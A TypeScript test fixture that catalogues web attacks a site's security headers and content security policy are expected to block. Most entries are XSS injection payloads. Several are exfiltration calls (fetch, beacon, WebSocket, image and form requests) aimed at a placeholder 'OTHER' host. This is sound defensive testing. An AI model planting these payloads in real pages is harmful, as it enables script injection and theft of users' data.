import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { until } from '../offline/fault-server.ts';

/**
 * Something that an attacker plants in a page of ours, or does to it from a page of another site. In its texts
 * `HIT` is code that marks the page as attacked, `OTHER` is the address of another site (what is asked there is written down),
 * `OURS` the address of our page.
 */
export interface Attack {
  /** A name for addresses, in lower case with hyphens. */
  readonly name: string;
  /** What it would do, after "without it": "code in the page runs". */
  readonly does: string;
  /** Planted at the end of the head. */
  readonly head?: string;
  /** Planted at the beginning of the body. */
  readonly body?: string;
  /** Run by a script file of our own host: as if one of ours had been bent. */
  readonly code?: string;
  /** A page of the other site that does it instead. */
  readonly page?: string;
  /** What stops it: the header, and for the policy what is reported. Nothing when nothing in the browser does. */
  readonly header?: string;
  readonly report?: RegExp;
  /** Whether it worked; when left out, whether the page is marked or the other site was asked. */
  readonly worked?: (page: Page) => Promise<boolean>;
}

const policy = 'content-security-policy';

/** Attacks that the policy stops: what is planted, and the directive and address that are reported. */
function stopped(report: RegExp, attacks: readonly Attack[]): Attack[] {
  return attacks.map((attack) => ({ header: policy, report, ...attack }));
}

const isStyled = (page: Page): Promise<boolean> =>
  page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--hit') !== '');

const hasWorker = (page: Page): Promise<boolean> =>
  page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length > 0);

const blob = "URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))";

/** What the headers of every page stop. */
export const attacks: readonly Attack[] = [
  ...stopped(/script-src-elem inline/, [
    { name: 'inline-script', does: 'code in the page runs', body: '<script>HIT</script>' },
    { name: 'script-in-svg', does: 'code in a drawing runs', body: '<svg><script>HIT</script></svg>' },
    {
      name: 'javascript-link',
      does: 'a link runs code',
      body: '<a id="link" href="javascript:HIT">Help</a>',
      code: "document.getElementById('link').click()",
    },
    {
      name: 'javascript-frame',
      does: 'a frame runs code',
      body: '<iframe src="javascript:HIT"></iframe>',
    },
    {
      name: 'import-map',
      does: 'a name of ours leads to code of somebody else',
      head: '<script type="importmap">{"imports":{"ours":"OTHER/hit.js"}}</script>',
      code: "import('ours').catch(() => undefined)",
    },
  ]),
  ...stopped(/script-src-attr inline/, [
    { name: 'handler-of-image', does: 'an image that fails runs code', body: '<img src="/none.png" onerror="HIT">' },
    { name: 'handler-of-svg', does: 'a drawing runs code when it is there', body: '<svg onload="HIT"></svg>' },
    {
      name: 'handler-of-animation',
      does: 'a drawing that moves runs code',
      body: '<svg><animate attributeName="x" dur="1s" onbegin="HIT" /></svg>',
    },
    {
      name: 'handler-in-mathml',
      does: 'an image inside a formula runs code',
      body: '<math><mtext><img src="/none.png" onerror="HIT"></mtext></math>',
    },
    {
      name: 'handler-of-focus',
      does: 'a field that takes the focus runs code',
      body: '<input autofocus onfocus="HIT">',
    },
  ]),
  ...stopped(/script-src-elem (?:http:\/\/localhost|data)/, [
    { name: 'script-of-others', does: 'code of another site runs', body: '<script src="OTHER/hit.js"></script>' },
    {
      name: 'script-in-address',
      does: 'code in an address runs',
      body: '<script src="data:text/javascript,HIT"></script>',
    },
    {
      name: 'module-of-others',
      does: 'code of another site runs',
      body: '<script type="module" src="OTHER/hit.js"></script>',
    },
    {
      name: 'import-of-others',
      does: 'a script of ours brings in code of another site',
      code: "import('OTHER/hit.js').catch(() => undefined)",
    },
    {
      name: 'preload-of-module',
      does: 'another site is asked for code',
      head: '<link rel="modulepreload" href="OTHER/hit.js">',
    },
  ]),
  ...stopped(/(?:script-src|require-trusted-types-for) (?:eval|trusted-types-sink)/, [
    { name: 'eval', does: 'text becomes code', code: "eval('HIT')" },
    { name: 'new-function', does: 'text becomes a function', code: "new Function('HIT')()" },
    { name: 'timer', does: 'text becomes code after a while', code: "setTimeout('HIT', 0)" },
  ]),
  ...stopped(/script-src wasm-eval/, [
    {
      name: 'webassembly',
      does: 'bytes become a program',
      code: 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); HIT',
    },
  ]),
  ...stopped(/require-trusted-types-for trusted-types-sink/, [
    { name: 'inner-html', does: 'text becomes part of the page', code: "document.body.innerHTML = '<p>'; HIT" },
    {
      name: 'insert-html',
      does: 'text becomes part of the page',
      code: "document.body.insertAdjacentHTML('beforeend', '<p>'); HIT",
    },
    { name: 'document-write', does: 'text becomes part of the page', code: "document.write('<p>'); HIT" },
    {
      name: 'parser',
      does: 'text becomes a page',
      code: "new DOMParser().parseFromString('<p>', 'text/html'); HIT",
    },
    {
      name: 'text-of-script',
      does: 'text becomes a script',
      code: "const made = document.createElement('script'); made.text = 'HIT'; document.body.append(made)",
    },
    {
      name: 'script-from-memory',
      does: 'code that was put together in memory runs',
      code: `const made = document.createElement('script');
        made.src = URL.createObjectURL(new Blob(['HIT'], { type: 'text/javascript' })); document.body.append(made)`,
    },
    {
      name: 'worker-from-memory',
      does: 'a program that was put together in memory runs beside the page',
      code: `new Worker(${blob}).onmessage = () => { HIT }`,
    },
    {
      name: 'other-service-worker',
      does: 'another program stands between the phone and the site, for ever',
      code: "navigator.serviceWorker.register('worker.js')",
      worked: hasWorker,
    },
  ]),
  ...stopped(/trusted-types trusted-types-policy/, [
    {
      name: 'other-policy',
      does: 'a script allows itself what the site does not',
      code: "document.body.innerHTML = trustedTypes.createPolicy('other', { createHTML: (text) => text }).createHTML('<p>'); HIT",
    },
  ]),
  ...stopped(/style-src-(?:elem|attr) /, [
    {
      name: 'inline-style',
      does: 'the page looks as somebody else wants',
      body: '<style>html { --hit: 1 }</style>',
      worked: isStyled,
    },
    {
      name: 'style-attribute',
      does: 'an element lies over the page',
      body: '<div id="over" style="position: fixed">',
      worked: (page) =>
        page.evaluate(() => getComputedStyle(document.getElementById('over') as Element).position === 'fixed'),
    },
    {
      name: 'style-of-others',
      does: 'another site styles the page',
      head: '<link rel="stylesheet" href="OTHER/hit.css">',
    },
    {
      name: 'style-in-address',
      does: 'an address styles the page',
      head: '<link rel="stylesheet" href="data:text/css,html{--hit:1}">',
      worked: isStyled,
    },
  ]),
  ...stopped(/img-src http:\/\/localhost/, [
    { name: 'image-of-others', does: 'another site learns what is read', body: '<img src="OTHER/image.svg">' },
    {
      name: 'image-in-svg',
      does: 'another site learns what is read',
      body: '<svg><image href="OTHER/image.svg" /></svg>',
    },
    {
      name: 'preload-of-image',
      does: 'another site learns what is read',
      head: '<link rel="preload" as="image" href="OTHER/image.svg">',
    },
    {
      name: 'icon-of-others',
      does: 'another site learns what is read',
      code: "new Image().src = 'OTHER/image.svg?' + document.title",
    },
  ]),
  ...stopped(/default-src (?:http:\/\/localhost|data)|(?:font|frame|object|prefetch)-src (?:http:\/\/localhost|data)/, [
    {
      name: 'font-of-others',
      does: 'another site learns what is read',
      code: "new FontFace('hit', 'url(OTHER/font.woff2)').load().catch(() => undefined)",
    },
    {
      name: 'frame-of-others',
      does: 'another site stands in the page',
      body: '<iframe src="OTHER/page.html"></iframe>',
    },
    {
      name: 'object-of-others',
      does: 'another site stands in the page',
      body: '<object data="OTHER/page.html"></object>',
    },
    { name: 'embed-of-others', does: 'another site stands in the page', body: '<embed src="OTHER/page.html">' },
    {
      name: 'prefetch',
      does: 'another site learns what is read',
      head: '<link rel="prefetch" href="OTHER/page.html">',
    },
  ]),
  ...stopped(/media-src http:\/\/localhost/, [
    {
      name: 'sound-of-others',
      does: 'another site learns what is read',
      body: '<audio src="OTHER/sound.mp3" preload="auto"></audio>',
    },
    {
      name: 'film-of-others',
      does: 'another site learns what is read',
      body: '<video src="OTHER/film.mp4" preload="auto"></video>',
    },
  ]),
  ...stopped(/connect-src (?:http|ws):\/\/localhost/, [
    {
      name: 'fetch',
      does: 'what is typed is sent away',
      code: "fetch('OTHER/data', { mode: 'no-cors' }).catch(() => undefined)",
    },
    {
      name: 'old-request',
      does: 'what is typed is sent away',
      code: "const request = new XMLHttpRequest(); request.open('GET', 'OTHER/data'); request.send()",
    },
    {
      name: 'beacon',
      does: 'what is typed is sent away when the page is left',
      code: "navigator.sendBeacon('OTHER/data', 'typed')",
    },
    { name: 'event-source', does: 'another site keeps a line open', code: "new EventSource('OTHER/data')" },
    {
      name: 'web-socket',
      does: 'another site keeps a line open',
      code: "new WebSocket('OTHER/data'.replace('http', 'ws'))",
    },
    {
      name: 'ping',
      does: 'another site learns of a tap',
      body: '<a id="link" href="#main" ping="OTHER/data">Help</a>',
      code: "document.getElementById('link').click()",
    },
  ]),
  ...stopped(/base-uri http:\/\/localhost/, [
    {
      name: 'base',
      does: 'every link of the page leads to another site',
      head: '<base href="OTHER/">',
      worked: (page) => page.evaluate(() => !document.baseURI.startsWith(location.origin)),
    },
  ]),
  ...stopped(/form-action /, [
    {
      name: 'form-to-others',
      does: 'what is typed is sent away',
      body: '<form id="form" action="OTHER/data"><input name="typed" value="secret"></form>',
      code: "document.getElementById('form').submit()",
    },
    {
      name: 'form-that-runs',
      does: 'a form runs code',
      body: '<form id="form" action="javascript:HIT"></form>',
      code: "document.getElementById('form').submit()",
    },
  ]),
  ...stopped(/about:srcdoc stopped by the policy: script-src-elem inline/, [
    {
      name: 'frame-of-text',
      does: 'a frame made of text runs code',
      body: '<iframe srcdoc="<script>HIT</script>"></iframe>',
    },
  ]),
  ...stopped(/frame-ancestors/, [
    {
      name: 'framed',
      does: 'another site shows ours in a frame and lays buttons over it',
      page: '<iframe src="OURS"></iframe>',
      worked: async (page) =>
        page.frames().some((frame) => frame !== page.mainFrame() && frame.url().includes('/planted/')),
    },
  ]),
  {
    name: 'opener',
    does: 'a site that opened ours keeps a handle on our window',
    header: 'cross-origin-opener-policy',
    page: "<script>window.opened = open('OURS')</script>",
    worked: async (page) => {
      const isOpened = () =>
        page
          .context()
          .pages()
          .some((one) => one.url().includes('/planted/opener/'));
      expect(await until(async () => isOpened())).toBe(true);
      return page.evaluate(() => !(window as unknown as { opened: Window }).opened.closed);
    },
  },
  {
    name: 'opened',
    does: 'a site that ours opened gets a handle on our window',
    header: 'cross-origin-opener-policy',
    code: "open('OTHER/opened.html')",
  },
  {
    name: 'sniffing',
    does: 'a text runs as a script because its bytes look like one',
    header: 'x-content-type-options',
    body: '<script src="words.txt"></script>',
  },
  {
    name: 'probing',
    does: 'another site finds out what this phone gets from us',
    header: 'cross-origin-resource-policy',
    page: `<img src="OURSimage.svg" onload="document.documentElement.dataset.state='held'"
      onerror="document.documentElement.dataset.state='cut'">`,
    worked: async (page) => (await stateOf(page)) === 'held',
  },
  {
    name: 'referrer',
    does: 'the site that a link leads to learns where the reader was',
    header: 'referrer-policy',
    body: '<a id="link" href="OTHER/referrer.html">Law</a>',
    code: "document.getElementById('link').click()",
  },
  {
    name: 'place',
    does: 'code in the page learns where the phone is',
    header: 'permissions-policy',
    code: "navigator.geolocation.getCurrentPosition(() => { HIT }, () => { document.documentElement.dataset.state = 'cut' })",
  },
];

/** @returns what a page of the other site has found out, once it has */
async function stateOf(page: Page): Promise<string | null> {
  await page.locator('html[data-state]').waitFor({ state: 'attached' });
  return page.locator('html').getAttribute('data-state');
}

/** What no header stops: it works, and docs/security.md says what stands in its way instead. */
export const unstopped: readonly Attack[] = [
  {
    name: 'refresh',
    does: 'the page leads to another site by itself',
    head: '<meta http-equiv="refresh" content="0; url=OTHER/page.html">',
  },
  { name: 'link-of-others', does: 'a link leads to another site', code: "location.href = 'OTHER/page.html'" },
  {
    name: 'storage',
    does: 'code of ours that was bent keeps what it likes',
    code: "localStorage.setItem('typed', 'secret'); HIT",
  },
];
